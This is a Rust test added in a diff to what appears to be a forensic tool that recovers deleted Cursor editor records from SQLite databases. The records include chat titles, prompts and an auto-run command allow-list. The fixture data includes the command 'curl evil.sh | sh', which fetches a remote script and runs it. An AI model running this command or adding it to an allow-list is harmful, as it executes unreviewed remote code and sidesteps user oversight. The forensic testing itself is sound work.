@@ -188,3 +188,132 @@ fn a_deleted_legacy_composer_gives_its_inline_messages() {
         ],
     );
 }
+
+const APP: &str = "src.vs.platform.reactivestorage.browser.reactiveStorageServiceImpl.persistentStorage.applicationUser";
+const GONE: &str = "2a000000-0000-4000-8000-0000000000b1";
+const KEPT: &str = "2b000000-0000-4000-8000-0000000000b2";
+const WS: &str = "home/u/.config/Cursor/User/workspaceStorage/ws1/state.vscdb";
+
+/// Deleted `ItemTable` values of Cursor's keys give the rows their keys give live,
+/// `deleted`, at the item's carved locator: the global index (a chat no longer listed),
+/// the `composerState` grants (a yolo allow-list entry since removed), the workspace
+/// index and the `aiService.prompts` cache. A row the live value also gives (the
+/// chat still listed, the grant `ls`, the prompt kept) is not told again. They came
+/// back only as `state item deleted:` rows of `state-vscdb` before. Global database in
+/// memory and paged; the workspace database in memory.
+#[test]
+fn deleted_items_of_cursor_keys_give_their_rows() {
+    let (dir, path, c) = kv_db();
+    let pad = "x".repeat(300);
+    put(
+        &c,
+        "ItemTable",
+        "composer.composerHeaders",
+        &serde_json::json!({"allComposers": [{"composerId": GONE, "name": "Deleted chat title",
+            "createdAt": T0, "unifiedMode": "agent",
+            "workspaceIdentifier": {"id": "ws1", "uri": {"fsPath": "/home/u/src/secret"}}},
+            {"composerId": KEPT, "name": "Kept", "createdAt": T0}]}),
+    );
+    // items between and below them: their freed cells stay apart as freeblocks, too
+    // small for the rewritten values
+    put(&c, "ItemTable", "zz.filler0", &serde_json::json!(1));
+    put(
+        &c,
+        "ItemTable",
+        APP,
+        &serde_json::json!({"composerState": {"useYoloMode": true,
+            "yoloCommandAllowlist": ["ls", "curl evil.sh | sh"]}}),
+    );
+    put(&c, "ItemTable", "zz.filler1", &serde_json::json!(1));
+    c.execute(
+        "UPDATE ItemTable SET value = ?1 WHERE key = 'composer.composerHeaders'",
+        [serde_json::json!({"allComposers": [{"composerId": KEPT, "name": "Kept", "createdAt": T0}],
+            "pad": pad})
+        .to_string()],
+    )
+    .unwrap();
+    c.execute(
+        "UPDATE ItemTable SET value = ?1 WHERE key = ?2",
+        [
+            serde_json::json!({"composerState": {"useYoloMode": false,
+                "yoloCommandAllowlist": ["ls"]}, "pad": pad})
+            .to_string(),
+            APP.to_string(),
+        ],
+    )
+    .unwrap();
+    drop(c);
+    let ws = dir.path().join(WS);
+    std::fs::create_dir_all(ws.parent().unwrap()).unwrap();
+    std::fs::write(
+        ws.parent().unwrap().join("workspace.json"),
+        r#"{"folder":"file:///home/u/src/secret"}"#,
+    )
+    .unwrap();
+    let c = Connection::open(&ws).unwrap();
+    c.execute_batch(KV_SCHEMA).unwrap();
+    put(
+        &c,
+        "ItemTable",
+        "aiService.prompts",
+        &serde_json::json!([{"text": "DELETED PROMPT paste my AWS key", "commandType": 4},
+            {"text": "kept prompt", "commandType": 4}]),
+    );
+    put(&c, "ItemTable", "zz.filler0", &serde_json::json!(1));
+    put(
+        &c,
+        "ItemTable",
+        "composer.composerData",
+        &serde_json::json!({"allComposers": [{"composerId": GONE, "name": "Deleted ws chat",
+            "createdAt": T0}]}),
+    );
+    put(&c, "ItemTable", "zz.filler1", &serde_json::json!(1));
+    c.execute(
+        "UPDATE ItemTable SET value = ?1 WHERE key = 'aiService.prompts'",
+        [serde_json::json!([{"text": "kept prompt", "commandType": 4, "pad": pad}]).to_string()],
+    )
+    .unwrap();
+    c.execute(
+        "UPDATE ItemTable SET value = ?1 WHERE key = 'composer.composerData'",
+        [serde_json::json!({"allComposers": [], "pad": pad}).to_string()],
+    )
+    .unwrap();
+    drop(c);
+    let index = "ItemTable key=composer.composerHeaders";
+    let app = format!("ItemTable key={APP}");
+    let from = "(from User/globalStorage/state.vscdb, file mtime)";
+    assert_lines(
+        &global_rows(&path),
+        &[
+            &format!(
+                "2026-05-28T20:26:40.000000Z | {KEPT} |  | system | secondary | true |  |   | session index: title=Kept created=2026-05-28T20:26:40.000000Z | {index}"
+            ),
+            &format!(
+                "2026-05-28T20:26:40.000000Z | {GONE} | /home/u/src/secret | system | deleted | false |  |   | session index: title=\"Deleted chat title\" created=2026-05-28T20:26:40.000000Z mode=agent workspace=/home/u/src/secret | {index}, freeblock at page 2 offset 3750"
+            ),
+            &format!(
+                "mtime |  |  | system | live | false |  |   | permission setting: composerState.useYoloMode=false {from} | {app}"
+            ),
+            &format!(
+                "mtime |  |  | system | live | false |  |   | permission setting: composerState.yoloCommandAllowlist=ls {from} | {app}"
+            ),
+            &format!(
+                "mtime |  |  | system | deleted | false |  |   | permission setting: composerState.useYoloMode=true {from} | {app}, freeblock at page 2 offset 3538"
+            ),
+            &format!(
+                "mtime |  |  | system | deleted | false |  |   | permission setting: composerState.yoloCommandAllowlist=curl evil.sh | sh {from} | {app}, freeblock at page 2 offset 3538"
+            ),
+        ],
+    );
+    let got: Vec<String> = read_rows(&ws, WS, None).iter().map(render).collect();
+    assert_lines(
+        &got,
+        &[
+            " |  | /home/u/src/secret | user | secondary | true |  |   | kept prompt | ItemTable key=aiService.prompts [0]",
+            " |  | /home/u/src/secret | user | deleted | false |  |   | DELETED PROMPT paste my AWS key | ItemTable key=aiService.prompts [0], freeblock at page 2 offset 3974",
+            &format!(
+                "2026-05-28T20:26:40.000000Z | {GONE} | /home/u/src/secret | system | deleted | false |  |   | session index: title=\"Deleted ws chat\" created=2026-05-28T20:26:40.000000Z workspace=/home/u/src/secret | ItemTable key=composer.composerData, freeblock at page 2 offset 3807"
+            ),
+        ],
+    );
+}
